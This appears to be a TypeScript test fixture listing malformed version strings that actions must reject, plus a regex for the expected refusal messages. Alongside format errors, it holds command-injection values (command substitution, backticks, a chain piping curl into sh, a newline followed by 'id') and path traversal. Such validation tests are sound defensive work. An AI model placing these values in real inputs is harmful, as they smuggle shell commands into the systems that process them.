/** The malformed versions every action that takes a version must refuse. */
export const BAD_VERSIONS: Array<[string, string]> = [
  ['two-parts', '1.2'],
  ['four-parts', '1.2.3.4'],
  ['leading-zero', 'v01.2.3'],
  ['build-metadata', '1.2.3+build'],
  ['command-substitution', 'v1.2.3$(id)'],
  ['backticks', 'v1.2.3`id`'],
  ['shell-chain', 'v1.2.3;curl${IFS}x|sh'],
  ['option-like', '-v1'],
  ['path-traversal', '../1.2.3'],
  ['newline', 'v1.2.3\nid'],
];

/** What a refusal of one of them says (the wording differs by the kind of mistake). */
export const VERSION_REFUSAL = /SemVer|a version like|characters a version cannot have|build metadata/;
